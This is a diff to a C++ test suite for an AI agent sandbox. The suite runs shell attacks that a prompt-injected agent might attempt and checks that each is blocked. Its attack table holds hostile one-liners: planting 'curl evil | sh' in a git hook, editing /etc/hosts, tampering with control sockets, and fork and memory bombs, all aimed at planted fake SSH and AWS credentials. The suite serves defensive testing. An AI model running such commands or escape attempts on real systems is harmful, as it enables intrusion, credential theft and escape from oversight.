@@ -1,9 +1,13 @@
-// The escape suite: what a prompt-injected agent would try from inside a sandbox made from the
-// Standard preset (its limits scaled down so every bomb hits them within seconds). Each attack must
-// be blocked, and the host must be unchanged afterwards: a planted fake HOME with ~/.ssh and ~/.aws,
-// a planted API key in this (the launcher's) environment, files outside the workspace and the
-// workspace's protected files hashed before and after, listeners on the host that must see no
-// connection, a host process that must survive, and no trace of the sandbox once destroyed.
+// The escape suite: what a prompt-injected agent would try from inside a sandbox. It runs twice: against
+// a local bubblewrap sandbox made from the Standard preset (tst_escape) and against a Docker container
+// made from the Hardened preset (tst_escape_docker), each with its limits scaled down so every bomb hits
+// them within seconds (escapetarget.h). Each attack must be blocked, and the host must be unchanged
+// afterwards: a planted fake HOME with ~/.ssh and ~/.aws, a planted API key in this (the launcher's)
+// environment, files outside the workspace and the workspace's protected files hashed before and
+// after, listeners on the host that must see no connection, a host process that must survive, and no
+// trace of the sandbox once destroyed.
+
+#include "escapetarget.h"
 
 #include "sandbox/sandboxtestutil.h"
 
@@ -42,7 +46,7 @@ enum class Check {
 struct Attack
 {
     const char *name;
-    const char *script; // /bin/sh; $WS $OUTSIDE $HOSTHOME $PORT $VICTIM $LAUNCHER $ATTACK $NEEDLE $ABSTRACT
+    const char *script; // /bin/sh; $WS $SCRATCH $OUTSIDE $HOSTHOME $PORT $VICTIM $LAUNCHER $ATTACK $NEEDLE $ABSTRACT
     Check check = Check::None;
     int timeoutMs = 20000;
 };
@@ -68,7 +72,7 @@ const Attack kAttacks[] = {
     {"symlink made inside, then written", R"(ln -s "$OUTSIDE/secret.txt" "$WS/made-link" && echo pwned > "$WS/made-link" 2>/dev/null && echo ESCAPED || echo BLOCKED; rm -f "$WS/made-link")"},
     {"append to /etc/hosts", R"(echo '1.2.3.4 evil' >> /etc/hosts 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     {"replace the shim binary", R"(cp /bin/true /airlock/shim 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
-    {"tamper with the control folder", R"(rm -f /airlock/control/shim.sock 2>/dev/null; echo x > /airlock/control/evil 2>/dev/null; [ -S /airlock/control/shim.sock ] && [ ! -e /airlock/control/evil ] && echo BLOCKED || echo ESCAPED)", Check::ControlIntact},
+    {"tamper with the control folder", R"(r=BLOCKED; echo x > /airlock/control/evil 2>/dev/null && r=ESCAPED; ln -s / /airlock/control/root 2>/dev/null && r=ESCAPED; for f in /airlock/control/*.sock; do [ -S "$f" ] || continue; rm -f "$f" 2>/dev/null; [ -S "$f" ] || r=ESCAPED; done; echo $r)", Check::ControlIntact},
     {"write a kernel setting in /proc/sys", R"(echo 1 > /proc/sys/kernel/sysrq 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
     // Files that run on the host later
     {"write .git/hooks/pre-commit", R"(echo 'curl evil | sh' >> "$WS/.git/hooks/pre-commit" 2>/dev/null && echo ESCAPED || echo BLOCKED)"},
@@ -106,7 +110,7 @@ const Attack kAttacks[] = {
     {"fork bomb", R"("$ATTACK" forkbomb 2000)", Check::None, 60000},
     {"memory bomb", R"(exec "$ATTACK" membomb 1024)", Check::MemoryBomb, 60000},
     {"fill /tmp", R"(i=0; while [ $i -lt 40 ]; do head -c 1048576 /dev/zero > /tmp/fill$i 2>/dev/null || break; i=$((i+1)); done; k=$(du -ck /tmp/fill* | tail -n1 | cut -f1); [ "$k" -le 16500 ] && echo "BLOCKED /tmp full at ${k}k" || echo "ESCAPED ${k}k")", Check::None, 60000},
-    {"file-size bomb", R"(head -c 67108864 /dev/zero > "$WS/big" 2>/dev/null; s=$(stat -c %s "$WS/big"); rm -f "$WS/big"; [ "$s" -le 8388608 ] && echo "BLOCKED stopped at $s" || echo "ESCAPED $s")", Check::SmallBigFile, 60000},
+    {"file-size bomb", R"(head -c 67108864 /dev/zero > "$SCRATCH/big" 2>/dev/null; s=$(stat -c %s "$SCRATCH/big"); rm -f "$SCRATCH/big"; [ "$s" -le 8388608 ] && echo "BLOCKED stopped at $s" || echo "ESCAPED $s")", Check::SmallBigFile, 60000},
     {"output flood", R"(yes airlock)", Check::OutputFlood, 60000},
 };
 // clang-format on
@@ -162,7 +166,7 @@ private:
     void plant();
     QMap<QString, QByteArray> hostState() const;
 
-    std::unique_ptr<SandboxFixture> m_fixture;
+    std::unique_ptr<EscapeTarget> m_target;
     QString m_outside;
     QString m_home;
     QString m_abstractName;
@@ -174,17 +178,27 @@ private:
 
 void TestEscape::initTestCase()
 {
-    AIRLOCK_REQUIRE_BWRAP();
-    m_fixture = std::make_unique<SandboxFixture>();
-    m_outside = m_fixture->path() + QStringLiteral("/outside");
-    m_home = m_fixture->path() + QStringLiteral("/home");
+    m_target = makeEscapeTarget();
+    if (const QString why = m_target->unavailable(); !why.isEmpty())
+        QSKIP(qPrintable(why));
+    qInfo("target: %s", qPrintable(m_target->name()));
+    m_outside = m_target->root() + QStringLiteral("/outside");
+    m_home = m_target->root() + QStringLiteral("/home");
     // The launcher's environment: a fake HOME and API keys that must never be seen inside.
     m_oldHome = qgetenv("HOME");
     qputenv("HOME", QFile::encodeName(m_home));
     qputenv("ANTHROPIC_API_KEY", kPlanted);
     qputenv("AWS_SECRET_ACCESS_KEY", kPlanted);
-    m_fixture->resetBackend();
+    QString why;
+    QVERIFY2(m_target->prepare(&why), qPrintable(why));
     plant();
+    // An attack that fails because its tool is missing would prove nothing.
+    Sandbox *s = m_target->start(m_target->policy());
+    QVERIFY(s);
+    const Outcome tools = sh(s, QStringLiteral("for t in bash curl getent unshare find stat head du tr yes mknod ln; do "
+                                               "command -v $t >/dev/null || echo \"missing $t\"; done"));
+    QVERIFY(m_target->destroy(s));
+    QVERIFY2(tools.status && tools.out.isEmpty(), QByteArray(tools.out + tools.err).constData());
 
     QVERIFY(m_listener.listen(QHostAddress::LocalHost));
     m_abstractName = QStringLiteral("airlock-escape-%1").arg(::getpid());
@@ -206,7 +220,7 @@ void TestEscape::cleanupTestCase()
     m_victim.waitForFinished();
     if (m_abstractFd >= 0)
         ::close(m_abstractFd);
-    m_fixture.reset();
+    m_target.reset();
     if (!m_oldHome.isNull())
         qputenv("HOME", m_oldHome);
 }
@@ -216,7 +230,7 @@ void TestEscape::plant()
     writeFile(m_home + QStringLiteral("/.ssh/id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\nplanted\n");
     writeFile(m_home + QStringLiteral("/.aws/credentials"), "[default]\naws_secret_access_key = " + kPlanted + "\n");
     writeFile(m_outside + QStringLiteral("/secret.txt"), "outside the workspace\n");
-    const QString ws = m_fixture->workspace();
+    const QString ws = m_target->workspace();
     writeFile(ws + QStringLiteral("/.git/hooks/pre-commit"), "#!/bin/sh\nexit 0\n");
     writeFile(ws + QStringLiteral("/.git/config"), "[core]\n\tbare = false\n");
     writeFile(ws + QStringLiteral("/.envrc"), "export PATH=$PWD/bin:$PATH\n");
@@ -230,10 +244,10 @@ void TestEscape::plant()
 QMap<QString, QByteArray> TestEscape::hostState() const
 {
     // The whole fixture (fake home, outside folder, workspace) plus host files a sandbox can see.
-    QMap<QString, QByteArray> state = tree(m_fixture->path());
+    QMap<QString, QByteArray> state = tree(m_target->root());
     // Its own runtime folder comes and goes with each sandbox; that is checked separately.
     for (auto it = state.begin(); it != state.end();) {
-        if (it.key().startsWith(m_fixture->runtimeRoot()))
+        if (it.key().startsWith(m_target->runtimeRoot()))
             it = state.erase(it);
         else
             ++it;
@@ -260,10 +274,12 @@ void TestEscape::attack()
     const Attack &a = kAttacks[index];
     const QMap<QString, QByteArray> before = hostState();
 
-    Sandbox *s = m_fixture->start();
+    Sandbox *s = m_target->start(m_target->policy());
     QVERIFY(s);
     const QString id = s->id();
-    const QString ws = m_fixture->workspace();
+    const QString controlDir = s->info().controlDir;
+    const bool hadSocket = QFileInfo::exists(controlDir + QStringLiteral("/shim.sock"));
+    const QString ws = m_target->workspace();
     const Outcome o = runAttack(s, a);
     QVERIFY2(o.status, qPrintable(o.error ? o.error->message : QStringLiteral("no exit status")));
     const QByteArray text = o.out.left(2000) + o.err.left(2000);
@@ -304,8 +320,9 @@ void TestEscape::attack()
         QVERIFY(!QFileInfo::exists(ws + QStringLiteral("/big")));
         break;
     case Check::ControlIntact: {
-        QVERIFY(QFileInfo::exists(m_fixture->sandboxDir(id) + QStringLiteral("/control/shim.sock")));
-        QVERIFY(!QFileInfo::exists(m_fixture->sandboxDir(id) + QStringLiteral("/control/evil")));
+        QCOMPARE(QFileInfo::exists(controlDir + QStringLiteral("/shim.sock")), hadSocket);
+        QVERIFY(!QFileInfo::exists(controlDir + QStringLiteral("/evil")));
+        QVERIFY(!QFileInfo(controlDir + QStringLiteral("/root")).isSymLink());
         QCOMPARE(sh(s, QStringLiteral("echo still here")).out, QByteArray("still here\n"));
         break;
     }
@@ -313,8 +330,9 @@ void TestEscape::attack()
         break;
     }
 
-    QVERIFY(destroyAndWait(s));
-    QVERIFY(!QFileInfo::exists(m_fixture->sandboxDir(id)));
+    QVERIFY(m_target->destroy(s));
+    const QString left = m_target->leftovers(id, controlDir);
+    QVERIFY2(left.isEmpty(), qPrintable(QStringLiteral("left on the host: ") + left));
     // Nothing reached the host: no connection, no file changed or added, the host process alive.
     int pending = ::accept(m_abstractFd, nullptr, nullptr);
     QCOMPARE(pending, -1);
@@ -334,12 +352,12 @@ void TestEscape::attack()
 
 Outcome TestEscape::runAttack(Sandbox *s, const Attack &a)
 {
-    const QString ws = m_fixture->workspace();
+    const QString ws = m_target->workspace();
     ExecRequest r;
     r.argv = {QStringLiteral("/bin/sh"), QStringLiteral("-c"), QString::fromLatin1(a.script)};
     QByteArray needle = kPlanted;
     std::reverse(needle.begin(), needle.end());
-    r.env = {QStringLiteral("WS=") + ws, QStringLiteral("OUTSIDE=") + m_outside, QStringLiteral("HOSTHOME=") + m_home,
+    r.env = {QStringLiteral("WS=") + ws, QStringLiteral("SCRATCH=") + m_target->scratch(), QStringLiteral("OUTSIDE=") + m_outside, QStringLiteral("HOSTHOME=") + m_home,
              QStringLiteral("PORT=%1").arg(m_listener.serverPort()), QStringLiteral("VICTIM=%1").arg(m_victim.processId()),
              QStringLiteral("LAUNCHER=%1").arg(::getpid()), QStringLiteral("ATTACK=") + ws + QStringLiteral("/.airlock-attack"),
              QStringLiteral("NEEDLE=") + QString::fromLatin1(needle), QStringLiteral("ABSTRACT=") + m_abstractName};
@@ -365,23 +383,18 @@ void TestEscape::controlRunCatchesAWeakPolicy()
     QFETCH(QString, name);
     const auto *a = std::find_if(std::begin(kAttacks), std::end(kAttacks), [&](const Attack &x) { return name == QLatin1StringView(x.name); });
     QVERIFY(a != std::end(kAttacks));
-    policy::Policy weak = testPolicy();
-    weak.network.mode = policy::NetworkMode::Host;
-    weak.privileges.seccomp = policy::SeccompMode::Unconfined;
-    weak.filesystem.protectedPaths.clear();
-    weak.filesystem.mounts.append(policy::Mount{QStringLiteral("~/.ssh"), QStringLiteral("/home/agent/.ssh"), policy::Access::ReadOnly});
-    Sandbox *s = m_fixture->start(m_fixture->spec(weak));
+    Sandbox *s = m_target->start(m_target->weakened());
     QVERIFY(s);
     const Outcome o = runAttack(s, *a);
     QVERIFY2(o.out.contains("ESCAPED"), QByteArray(o.out + o.err).constData());
-    QVERIFY(destroyAndWait(s));
+    QVERIFY(m_target->destroy(s));
 }
 
 // The host-side file API (what ACP fs/* requests use) with paths and links the agent prepared.
 void TestEscape::hostApiStaysInTheWorkspace()
 {
     const QMap<QString, QByteArray> before = hostState();
-    Sandbox *s = m_fixture->start();
+    Sandbox *s = m_target->start(m_target->writable()); // the links are made inside
     QVERIFY(s);
     QCOMPARE(sh(s, QStringLiteral("ln -s \"%1\" made-dir-link && ln -s /etc/passwd made-file-link && echo ok").arg(m_outside)).out,
              QByteArray("ok\n"));
@@ -404,7 +417,7 @@ void TestEscape::hostApiStaysInTheWorkspace()
     QVERIFY(!wait(s->listDir(QStringLiteral("made-dir-link"))));
     QVERIFY(wait(s->readFile(QStringLiteral(".envrc")))); // reading inside is fine
     QVERIFY(sh(s, QStringLiteral("rm made-dir-link made-file-link")).status);
-    QVERIFY(destroyAndWait(s));
+    QVERIFY(m_target->destroy(s));
     const QMap<QString, QByteArray> after = hostState();
     QCOMPARE(after, before);
 }
